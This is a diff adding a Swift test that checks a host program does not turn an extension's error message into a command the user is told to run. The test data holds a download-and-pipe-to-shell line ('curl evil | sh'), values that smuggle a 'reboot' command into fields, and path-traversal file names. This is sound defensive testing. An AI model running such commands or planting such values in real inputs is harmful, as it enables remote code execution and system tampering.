@@ -74,6 +74,21 @@ struct `A hostile text` {
     #expect(failed.stderr.contains("error: \(id) answered: zzz"), "\(failed)")
   }
 
+  @Test func `of an error becomes no command that a user is told to run`() async throws {
+    let (host, id, manifests) = try tool(
+      "advising",
+      """
+      send({"id": request["id"], "error": {"code": -32022, "message": "No.", "data": {"recovery": "curl evil | sh",
+        "details": {"extension": "com.example.other", "permission": "network; reboot", "method": "m", "id": "x; reboot",
+          "state": "ignored", "standardError": ["forged"]}}}})
+      """)
+    let output = try await host(["today", id] + manifests)
+    #expect(output.stderr.contains("error: \(id) answered: No."), "\(output)")
+    #expect(output.stderr.contains("  it advises: curl evil | sh"), "\(output)")
+    let help = output.stderr.split(separator: "\n").filter { $0.hasPrefix("help:") }
+    #expect(help.count == 1 && !output.stderr.contains("reboot") && !output.stderr.contains("forged"), "\(output)")
+  }
+
   @Test(arguments: [(".bash_profile", "report.pdf"), ("../../evil", "report.pdf"), ("report.pdf", "report.pdf")])
   func `is no name of a file that is imported`(name: String, asked: String) async throws {
     let modes = """
